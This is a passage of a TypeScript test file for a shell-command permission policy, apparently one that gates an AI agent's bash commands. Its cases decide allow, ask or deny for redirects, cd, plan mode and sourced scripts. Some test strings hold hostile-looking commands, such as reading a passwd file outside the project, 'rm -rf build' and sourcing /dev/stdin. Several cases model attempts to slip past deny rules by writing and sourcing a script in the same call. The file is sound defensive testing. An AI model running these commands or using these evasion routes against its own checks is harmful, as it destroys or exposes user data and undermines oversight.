  ['a relative path after cd is not trusted', 'cd src && ls ../..', {}, undefined, { behavior: 'ask', reason: "'ls ../..' needs approval", suggestedRule: 'Bash(ls:*)' }],
  ['the cd itself may name a relative path', 'cd src && ls', {}, undefined, { behavior: 'allow' }],
  ['a read-only git command with a foreign repository asks with why', 'git --git-dir=x log', {}, undefined, { behavior: 'ask', reason: "'git --git-dir=x log' (git --git-dir=x is not a read-only git command) needs approval", suggestedRule: 'Bash(git:*)' }],
  ['an allow rule is named', 'npm test', { allow: ['Bash(npm test)'] }, undefined, { behavior: 'allow', reason: 'allowed by rule Bash(npm test)', rule: 'Bash(npm test)' }],
  ['every rule used is named once', 'npm test && make && npm test', { allow: ['Bash(npm test)', 'Bash(make)'] }, undefined, { behavior: 'allow', reason: 'allowed by rule Bash(npm test), Bash(make)', rule: 'Bash(npm test), Bash(make)' }],
  ['a rule for every command covers writes inside the project', 'echo x > out.txt', { allow: ALLOW_BASH }, undefined, { behavior: 'allow', reason: 'allowed by rule Bash', rule: 'Bash' }],
  ['a rule for every command does not cover writes outside', 'echo x > $O/x', { allow: ALLOW_BASH }, undefined, { behavior: 'ask', reason: 'redirect > <R>/outside/x (outside the working directory) needs approval', suggestedRule: 'Edit(/<R>/outside/**)' }],
  ['a rule for the command does not cover its write', 'echo x > out.txt', { allow: ['Bash(echo:*)'] }, undefined, { behavior: 'ask', reason: 'redirect > <R>/project/out.txt needs approval', suggestedRule: 'Edit(/**)' }],
  ['a redirect after cd is not trusted', 'cd src && echo x > a.txt', { allow: ALLOW_BASH }, undefined, { behavior: 'ask', suggestedRule: 'Edit(/**)' }],
  ['an absolute redirect after cd is judged as usual', 'cd src && echo x > $P/out.txt', { allow: ALLOW_BASH }, undefined, { behavior: 'allow' }],
  ['two pending redirects', 'echo x > out.txt && echo y > $O/z', {}, undefined, { behavior: 'ask', reason: 'redirect > <R>/project/out.txt, redirect > <R>/outside/z (outside the working directory) need approval', suggestedRule: 'Edit(/**)', suggestedRules: ['Edit(/**)', 'Edit(/<R>/outside/**)'] }],
  ['acceptEdits allows a redirect inside with a workspace sandbox', 'echo x > out.txt', {}, 'acceptEdits', { behavior: 'allow', reason: 'acceptEdits mode: writes inside the working directory', sandbox: 'workspace' }],
  ['acceptEdits does not allow a redirect outside', 'ls >> $O/x', {}, 'acceptEdits', { behavior: 'ask', reason: 'redirect >> <R>/outside/x (outside the working directory) needs approval', suggestedRule: 'Edit(/<R>/outside/**)' }],
  ['acceptEdits does not allow a redirect after cd', 'cd src; echo x > a.txt', {}, 'acceptEdits', { behavior: 'ask' }],
  ['acceptEdits with a rule used names the rule', 'npm test > out.txt', { allow: ['Bash(npm test)'] }, 'acceptEdits', { behavior: 'allow', reason: 'allowed by rule Bash(npm test)' }],
  ['a read redirect inside is read-only', 'cat < out.txt', {}, undefined, { behavior: 'allow', reason: 'read-only command inside the working directory', sandbox: 'read-only' }],
  ['a read redirect from outside asks', 'cat < $O/passwd', {}, undefined, { behavior: 'ask', reason: 'redirect < <R>/outside/passwd (outside the working directory) needs approval', suggestedRule: 'Read(/<R>/outside/**)' }],
  ['a read redirect from outside allowed by a Read rule', 'cat < $O/passwd', { allow: ['Read(//$O/**)'] }, undefined, { behavior: 'allow', reason: 'allowed by rule Read(//<R>/outside/**)' }],
  ['an Edit rule allows a redirect', 'echo x > src/new.ts', { allow: ['Edit(./src/**)'] }, undefined, { behavior: 'allow', reason: 'allowed by rule Edit(./src/**)' }],
  ['a redirect that is an Edit and a command both pending', 'rm x > out.txt', {}, undefined, { behavior: 'ask', reason: "'rm x', redirect > <R>/project/out.txt need approval", suggestedRule: 'Bash(rm x)', suggestedRules: ['Bash(rm x)', 'Edit(/**)'] }],
  ['one pending command of two', 'rm x && ls', { allow: ['Bash(echo:*)'] }, undefined, { behavior: 'ask', reason: "'rm x' needs approval", suggestedRule: 'Bash(rm x)' }],
  ['a derived command does not need its own allow', 'timeout 5 rm x', { allow: ['Bash(timeout:*)'] }, undefined, { behavior: 'allow', reason: 'allowed by rule Bash(timeout:*)' }],

  // ---- script files ----
  ['the commands of a sourced file are checked', 'source script.sh', { allow: ALLOW_BASH, deny: ['Bash(rm:*)'] }, undefined, { behavior: 'deny', reason: "'rm -rf build' is denied by rule Bash(rm:*)", rule: 'Bash(rm:*)' }],
  ['the commands of a file run by bash are checked', 'bash script.sh', { allow: ALLOW_BASH, deny: ['Bash(rm:*)'] }, undefined, { behavior: 'deny', rule: 'Bash(rm:*)' }],
  ['a script file by its absolute path', 'source $P/script.sh', { allow: ALLOW_BASH, deny: ['Bash(rm:*)'] }, undefined, { behavior: 'deny', rule: 'Bash(rm:*)' }],
  ['a sourced file asks an ask rule', 'source script.sh', { allow: ALLOW_BASH, ask: ['Bash(rm:*)'] }, undefined, { behavior: 'ask', rule: 'Bash(rm:*)' }],
  ['a sourced file is allowed when its source command is', 'source script.sh', { allow: ['Bash(source script.sh)'] }, undefined, { behavior: 'allow', reason: 'allowed by rule Bash(source script.sh)' }],
  ['a script written by the same command is unknown', 'echo rm > s2.sh; source s2.sh', { allow: ALLOW_BASH, deny: ['Bash(rm:*)'] }, undefined, { behavior: 'deny', reason: "'source s2.sh': it runs s2.sh, which cannot be read before the command runs, so it could run any command, and rule Bash(rm:*) denies some commands, so it was not run", rule: 'Bash(rm:*)' }],
  ['a script changed by a command in the same call is unknown', 'cp x script.sh; source script.sh', { allow: ALLOW_BASH, deny: ['Bash(ls:*)'] }, undefined, { behavior: 'deny', reason: /which cannot be read before the command runs/ }],
  ['a script written through another spelling is unknown', 'echo rm > ./script.sh; source script.sh', { allow: ALLOW_BASH, deny: ['Bash(ls:*)'] }, undefined, { behavior: 'deny', reason: /which cannot be read before the command runs/ }],
  ['a script that is not a regular file is unknown', 'source /dev/stdin', { allow: ALLOW_BASH, deny: ['Bash(rm:*)'] }, undefined, { behavior: 'deny', reason: "'source /dev/stdin': it runs /dev/stdin, which is not a regular file, so it could run any command, and rule Bash(rm:*) denies some commands, so it was not run" }],
  ['a script that does not exist runs nothing', 'source nonexistent.sh', { allow: ALLOW_BASH, deny: ['Bash(rm:*)'] }, undefined, { behavior: 'allow' }],
  ['a script named by an expansion is unknown', 'source $S', { allow: ALLOW_BASH, deny: ['Bash(rm:*)'] }, undefined, { behavior: 'deny', reason: "'source $S': it runs a script file named by an expansion ($S), so it could run any command, and rule Bash(rm:*) denies some commands, so it was not run" }],
  ['a relative script after cd is unknown', 'cd src && source script.sh', { allow: ALLOW_BASH, deny: ['Bash(rm:*)'] }, undefined, { behavior: 'deny', reason: /it runs script\.sh, which cannot be read before the command runs/ }],
  ['an absolute script after cd is read', 'cd src && source $P/script.sh', { allow: ALLOW_BASH, deny: ['Bash(rm:*)'] }, undefined, { behavior: 'deny', reason: "'rm -rf build' is denied by rule Bash(rm:*)" }],
  ['plan mode does not judge a sourced file on its own', 'source script.sh', { allow: ['Bash(source:*)'] }, 'plan', { behavior: 'deny', reason: `'source script.sh' may change things; ${PLAN}` }],
];

describe('procSpelling', () => {
  it('resolves .. by name before the /proc link and keeps it after', () => {
    expect(procSpelling('/proc/self/cwd/../x')).toBe('/proc/self/cwd/../x');
    expect(procSpelling('/proc/1/../self/./cwd//x')).toBe('/proc/self/cwd/x');
    expect(procSpelling('/proc/self/root')).toBe('/proc/self/root');
    expect(procSpelling('/proc/thread-self/fd/3/..')).toBe('/proc/thread-self/fd/3/..');
    expect(procSpelling('/proc/self/map_files/a')).toBe('/proc/self/map_files/a');
    expect(procSpelling('/proc/self/environ/../cwd')).toBe('/proc/self/cwd');
  });
  it('reads /dev/fd/N as a descriptor and any other /dev/fd path as /proc/self/fd', () => {
    expect(procSpelling('/dev/fd/2')).toBe('/dev/fd/2');
    expect(procSpelling('/dev/fd/12/x')).toBe('/dev/fd/12/x');
    expect(procSpelling('/dev/fd/../cwd/x')).toBe('/proc/self/fd/../cwd/x');
    expect(procSpelling('/dev/./fd/x')).toBe('/proc/self/fd/x');
  });
  it('normalizes other absolute paths and leaves relative ones alone', () => {
    expect(procSpelling('/a/./b//../c')).toBe('/a/c');
    expect(procSpelling('/..')).toBe('/');
    expect(procSpelling('proc/self/cwd/x')).toBe('proc/self/cwd/x');
    expect(procSpelling('/dev/fd')).toBe('/dev/fd');
    expect(procSpelling('/proc/self/cwd')).toBe('/proc/self/cwd');
  });
  it('only /proc/<pid>/<link> and /dev/fd are links: .. elsewhere is resolved by name', () => {
    expect(procSpelling('/a/b/c/../d')).toBe('/a/b/d');
    expect(procSpelling('/a/b/cwd/../x')).toBe('/a/b/x');
    expect(procSpelling('/proc/self/xcwd/../y')).toBe('/proc/self/y');
    expect(procSpelling('/proc/self/cwdx/../y')).toBe('/proc/self/y');
    expect(procSpelling('/x/fd/../y')).toBe('/x/y');
    expect(procSpelling('/dev/x/../y')).toBe('/dev/y');
    expect(procSpelling('/dev/fd/x3')).toBe('/proc/self/fd/x3');
    expect(procSpelling('/dev/fd/3x')).toBe('/proc/self/fd/3x');
  });
});

describe('bash-policy decisions, pinned', () => {
  for (const [name, command, settings, mode, expected] of cases) {
    it(name, async () => {
      const d = unroot(await decide(command, settings, mode));
      const { reason, ...rest } = expected;
      expect(d).toMatchObject(rest);
      if (typeof reason === 'string') expect(d.reason).toBe(reason);
      else if (reason instanceof RegExp) expect(d.reason).toMatch(reason);
      // Fields the expectation leaves out must be absent when the expectation is a whole decision.
      if (typeof reason === 'string' && d.behavior === 'ask' && !('suggestedRule' in expected)) expect(d.suggestedRule).toBeUndefined();
      if (!('suggestedRules' in expected) && 'suggestedRule' in expected) expect(d.suggestedRules).toBeUndefined();
    });
  }
});
